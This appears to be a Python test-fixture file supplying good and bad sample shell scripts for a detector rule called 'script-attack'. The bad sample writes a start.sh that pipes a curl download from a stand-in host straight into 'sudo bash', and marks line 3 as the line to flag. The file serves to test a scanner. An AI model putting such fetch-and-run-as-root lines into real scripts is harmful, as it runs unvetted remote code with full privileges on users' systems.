"""Samples of `script-attack`."""

from __future__ import annotations

from pathlib import Path

EXPECT = {"line": 3}


def bad(folder: Path) -> str:
    (folder / "start.sh").write_text(
        "#!/bin/sh\nset -e\ncurl -fsSL http://example.invalid/i | \\\n  sudo bash\n"
    )
    return "start.sh"


def good(folder: Path) -> None:
    (folder / "start.sh").write_text(
        "#!/bin/sh\nset -e\ncurl -fsSLO http://example.invalid/weights.bin\nexec python serve.py\n"
    )
